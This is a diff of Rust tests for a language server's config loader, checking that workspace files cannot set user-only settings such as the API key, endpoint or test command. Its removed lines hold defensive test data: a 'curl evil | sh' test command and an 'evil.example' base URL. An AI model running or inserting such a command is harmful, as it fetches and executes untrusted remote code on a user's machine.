@@ -3,7 +3,9 @@ use std::path::PathBuf;
 use serde_json::{json, Value};
 
 use super::*;
-use crate::config::{ConfigError, Sources, SECTION};
+use crate::config::{
+    ActionsConfig, CompletionConfig, ConfigError, ContextConfig, HttpSettings, Sources, TestsConfig, SECTION,
+};
 
 fn apply(config: &mut Config, layer: Value) -> Vec<ConfigError> {
     let mut errors = Vec::new();
@@ -165,33 +167,132 @@ fn actions_may_be_the_list_of_custom_actions() {
 }
 
 #[test]
-fn user_only_settings_are_removed_from_a_workspace_file_however_written() {
-    let mut value = json!({
-        "apiKey": "sk-from-repo",
-        "baseUrl": "https://evil.example",
-        "model": "glm-4.6",
-        "completion": {"debounceMs": 5},
+fn every_spelling_the_loader_accepts_is_normalised_to_the_settings_key() {
+    let layer = json!({
+        "completion": {"debounceMs": 5, "maxTokens": null},
+        "tests.command": "make test",
+        "http": {"proxy": "http://proxy.example:3128"},
+        "actions": [{"title": "Explain", "prompt": "Explain {code}"}],
+        "modle": "x",
     });
-    assert_eq!(remove_user_only(&mut value), ["apiKey", "baseUrl"]);
-    assert_eq!(value, json!({"model": "glm-4.6", "completion": {"debounceMs": 5}}));
-    let mut value = json!({"tests": {"verify": true, "timeoutSecs": 5}, "tests.command": "curl evil | sh"});
-    assert_eq!(remove_user_only(&mut value), ["tests.verify", "tests.command"]);
-    assert_eq!(value, json!({"tests": {"timeoutSecs": 5}}));
-    assert!(remove_path(&mut json!({"a": {"b.c": 1}}), "a.b.c"));
-    assert!(remove_path(&mut json!({"a.b": {"c": 1}}), "a.b.c"));
-    assert!(!remove_path(&mut json!({"a": {"b": 1}}), "a.b.c"));
+    let normalised = normalise(&layer);
+    let mut keys: Vec<&str> = normalised.settings.iter().map(|(setting, _)| setting.key).collect();
+    keys.sort_unstable();
+    assert_eq!(keys, ["actions.custom", "completion.debounceMs", "http.proxy", "tests.command"]);
+    assert_eq!(normalised.problems, [("modle".to_string(), "unknown setting; did you mean `model`?".to_string())]);
+    assert_eq!(normalise(&json!(3)).problems[0].1, "expected an object of settings");
+}
+
+/// What a workspace file must never decide, by the fields of `Config` it reaches: `reach`,
+/// where the key and the code go and what runs on the machine; `spend`, what costs the user
+/// money, what enters a prompt and whether an edit is shown first. Every field is named (no
+/// `..`), so a new field must be placed in one of them (or marked neither) before this compiles.
+fn reach_and_spend(config: &Config) -> (Value, Value) {
+    let Config {
+        api_key,
+        key_source,
+        provider,
+        base_url,
+        // On a gateway (`runapi`, `cometapi`, `custom`) the model id picks the company that gets the code.
+        model,
+        thinking,
+        temperature: _,
+        top_p: _,
+        max_tokens,
+        max_concurrency,
+        timeout_secs,
+        price: _,
+        completion,
+        context,
+        actions,
+        tests,
+        http,
+        explicit: _,
+    } = config;
+    let CompletionConfig {
+        enabled,
+        trigger,
+        style: _,
+        debounce_ms,
+        max_wait_ms: _,
+        thinking: think,
+        max_tokens: tokens,
+        languages,
+    } = completion;
+    let ContextConfig { budget_tokens, exclude, max_file_bytes: _ } = context;
+    let ActionsConfig { resolve: _, confirm, max_tokens: action_tokens, custom: _ } = actions;
+    let TestsConfig { verify, timeout_secs: test_timeout, repair_rounds, command, hide_env } = tests;
+    let HttpSettings { proxy, ca_file } = http;
+    let reach = json!([api_key, key_source, provider.id(), base_url, model, verify, command, hide_env, proxy, ca_file]);
+    let spend = json!([
+        thinking,
+        max_tokens,
+        max_concurrency,
+        timeout_secs,
+        enabled,
+        format!("{trigger:?}"),
+        debounce_ms,
+        think,
+        tokens,
+        languages,
+        budget_tokens,
+        exclude,
+        confirm,
+        action_tokens,
+        test_timeout,
+        repair_rounds,
+    ]);
+    (reach, spend)
+}
+
+/// Every setting that can send the key or the code elsewhere or run something is user-only;
+/// every one that can cost more or put more into a prompt is at least tighten-only. Found by
+/// applying values, so a new setting is checked without anyone listing it here.
+#[test]
+fn settings_that_reach_out_or_spend_are_flagged_for_workspaces() {
+    let defaults = Config::default();
+    let (default_reach, default_spend) = reach_and_spend(&defaults);
+    for setting in SETTINGS {
+        let default = (setting.read)(&defaults);
+        let mut values = vec![other_value(setting, &default)];
+        match &setting.kind {
+            Kind::Choice { choices, .. } => values.extend(choices.iter().map(|(name, _)| json!(name))),
+            Kind::Integer { min, max, .. } => values.extend([json!(min), json!(max)]),
+            Kind::Number { min, max, .. } => values.extend([json!(min), json!(max)]),
+            _ => {}
+        }
+        for value in values {
+            let mut config = Config::default();
+            apply(&mut config, json!({ setting.key: value }));
+            let (reach, spend) = reach_and_spend(&config);
+            if reach != default_reach {
+                assert!(
+                    setting.user_only(),
+                    "`{}` = {value} changes where data goes or what runs: make it user-only",
+                    setting.key
+                );
+            }
+            if spend != default_spend {
+                assert!(
+                    setting.workspace != Workspace::May,
+                    "`{}` = {value} changes cost, prompts or confirmation: make it tighten-only (or user-only)",
+                    setting.key
+                );
+            }
+        }
+    }
 }
 
 #[test]
 fn a_workspace_file_cannot_set_a_user_only_key() {
     let root = std::env::temp_dir().join(format!("glm-lsp-schema-{}", std::process::id()));
     std::fs::create_dir_all(&root).unwrap();
-    std::fs::write(root.join("glm-lsp.toml"), "apiKey = \"sk-repo\"\n[completion]\ndebounceMs = 7\n").unwrap();
+    std::fs::write(root.join("glm-lsp.toml"), "apiKey = \"sk-repo\"\n[completion]\ndebounceMs = 700\n").unwrap();
     let (sources, errors) = Sources::load(Some(&root), &|_| None);
     let (config, _) = sources.resolve();
     std::fs::remove_dir_all(&root).unwrap();
     assert_eq!(config.api_key, None);
-    assert_eq!(config.completion.debounce_ms, 7);
+    assert_eq!(config.completion.debounce_ms, 700);
     assert_eq!(errors.iter().map(|e| e.key.as_str()).collect::<Vec<_>>(), ["apiKey"]);
 }
 
